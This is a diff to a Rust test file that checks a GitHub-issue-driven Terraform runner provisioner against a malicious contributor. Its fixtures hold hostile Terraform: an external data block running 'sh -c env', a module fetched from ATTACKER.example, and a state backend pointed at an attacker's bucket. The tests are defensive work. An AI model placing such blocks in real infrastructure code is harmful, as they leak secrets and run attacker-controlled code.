@@ -11,20 +11,22 @@ use runnersmith_issueops_engine::{Drift, Rights};
 use runnersmith_types::ChangeTrigger;
 
 /// Is in everything that the attacker writes.
-const MARK: &str = "ATTACKER";
-const EVIL: (&str, Option<&str>) =
+pub(crate) const MARK: &str = "ATTACKER";
+pub(crate) const EVIL: (&str, Option<&str>) =
     ("actions-runner-envs/team/x.tf", Some("data \"external\" \"ATTACKER\" { program = [\"sh\", \"-c\", \"env\"] }\n"));
-const MAIN: (&str, Option<&str>) =
+pub(crate) const MAIN: (&str, Option<&str>) =
     ("actions-runner-envs/team/main.tf", Some("module \"runners\" { source = \"git::https://ATTACKER.example\" }\n"));
-const BACKEND: (&str, Option<&str>) = (
+pub(crate) const BACKEND: (&str, Option<&str>) = (
     "actions-runner-envs/team/backend.tf.json",
     Some(r#"{"terraform": {"backend": {"s3": {"bucket": "ATTACKER", "key": "k", "region": "eu-west-1"}}}}"#),
 );
-const LOCK: (&str, Option<&str>) = ("actions-runner-envs/team/.terraform.lock.hcl", Some("# ATTACKER\n"));
-const BRANCH: &str = "runnersmith/team-1";
+pub(crate) const LOCK: (&str, Option<&str>) = ("actions-runner-envs/team/.terraform.lock.hcl", Some("# ATTACKER\n"));
+pub(crate) const BRANCH: &str = "runnersmith/team-1";
+/// A request to delete "team".
+pub(crate) const GONE: &str = "```json\n{\"environment\": \"team\"}\n```";
 
 /// walt attacks. wanda approves, adam is an admin and reads before he orders.
-async fn world() -> World {
+pub(crate) async fn world() -> World {
     let world = World::with_policy(&format!("{POLICY}\n[approval]\nteam = \"platform\"\n")).await;
     world.github.add_team("acme", "platform", &["wanda", "adam"]);
     world.provisioner.cloud.lock().unwrap().lock_file = Some("# ours\n".into());
@@ -32,7 +34,7 @@ async fn world() -> World {
 }
 
 /// Everything that happens by itself: both jobs, each tick, each look for drift.
-async fn goes_on(world: &World) {
+pub(crate) async fn goes_on(world: &World) {
     for _ in 0..3 {
         world.planner.handle(&ChangeTrigger::Tick).await.unwrap();
         world.applier.proceed().await.unwrap();
@@ -42,7 +44,7 @@ async fn goes_on(world: &World) {
 }
 
 /// The assertion, after everything has had its time.
-async fn held(world: &World) {
+pub(crate) async fn held(world: &World) {
     goes_on(world).await;
     assert!(!world.provisioner.saw(MARK), "a program ran on files of the attacker's");
     let cloud = world.provisioner.cloud.lock().unwrap();
@@ -52,11 +54,11 @@ async fn held(world: &World) {
 }
 
 /// What the attacker orders: none of it may lead anywhere.
-async fn orders_all(world: &World, pull: u64) {
+pub(crate) async fn orders_all(world: &World, pull: u64) {
     orders_all_as(world, pull, "walt").await;
 }
 
-async fn orders_all_as(world: &World, pull: u64, login: &str) {
+pub(crate) async fn orders_all_as(world: &World, pull: u64, login: &str) {
     let state = world.record("team").await.change.state;
     let line = match &state {
         State::Planned(plan) => plan.approve_line(world.record("team").await.change.kind),
@@ -93,7 +95,7 @@ async fn files_that_were_merged_are_laid_out_neither_for_drift_nor_for_the_next_
         let pull = world.record("team").await.change.pull;
         orders_all(&world, pull).await;
         world.order(pull, "walt", "/cancel").await;
-        world.ask("walt", "```json\n{\"environment\": \"team\"}\n```", DELETE).await;
+        world.ask("walt", GONE, DELETE).await;
         orders_all(&world, world.record("team").await.change.pull).await;
         held(&world).await;
     }
@@ -124,10 +126,7 @@ async fn what_is_pushed_after_an_apply_or_a_plan_died_is_not_laid_out_to_clear_u
     let applied = world().await;
     let (pull, line) = applied.planned().await;
     applied.comment(pull, "wanda", &line).await;
-    let (_go_on, applying) = applied.applying().await;
-    applying.abort();
-    assert!(applying.await.unwrap_err().is_cancelled());
-    *applied.provisioner.hold.lock().unwrap() = None;
+    applied.dies_applying().await;
     applied.github.push_as(REPO, BRANCH, "walt", &[EVIL, BACKEND], "quick");
     orders_all(&applied, pull).await;
     held(&applied).await;
@@ -135,12 +134,7 @@ async fn what_is_pushed_after_an_apply_or_a_plan_died_is_not_laid_out_to_clear_u
     let planned = world().await;
     let issue = planned.open_issue("ann", &block("team", 3), SET);
     let gate = Gate::new(&planned.record_store, ".plan");
-    let planner = planned.reconciler_on(gate.clone(), Rights::Plan);
-    let planning =
-        tokio::spawn(async move { planner.handle(&ChangeTrigger::Issue { number: issue, editor: None }).await });
-    gate.reached.notified().await;
-    planning.abort();
-    assert!(planning.await.unwrap_err().is_cancelled());
+    planned.dies(&gate, Rights::Plan, ChangeTrigger::Issue { number: issue, editor: None }).await;
     planned.github.push_as(REPO, BRANCH, "walt", &[EVIL, BACKEND], "quick");
     held(&planned).await;
 }
@@ -336,7 +330,7 @@ async fn a_lock_file_of_somebody_else_is_left_out_and_ours_takes_its_place() {
     world.made("team").await;
     assert_eq!(lock_of("main"), b"# ours\n");
     world.github.push_as(REPO, "main", "walt", &[LOCK], "older providers");
-    world.ask("ann", "```json\n{\"environment\": \"team\"}\n```", DELETE).await;
+    world.ask("ann", GONE, DELETE).await;
     let (deletion, line) = (world.record("team").await.change.pull, world.approve_line("team").await);
     world.order(deletion, "wanda", &line).await;
     assert!(!world.is_open("team").await, "{}", world.said(deletion));
@@ -390,7 +384,7 @@ async fn an_issue_that_was_moved_away_asks_for_nothing_any_more() {
     let issue = world.ask("ann", &block("team", 3), SET).await;
     let (pull, line) = (world.record("team").await.change.pull, world.approve_line("team").await);
     world.github.add_repository("acme/elsewhere");
-    let there = world.github.transfer_issue(REPO, issue, "acme/elsewhere");
+    let there = world.github.transfer_issue_as(REPO, issue, "walt", "acme/elsewhere");
     world.github.edit_issue_as("acme/elsewhere", there, "walt", &block("team", 9));
     world.order(pull, "wanda", &line).await;
     held(&world).await;
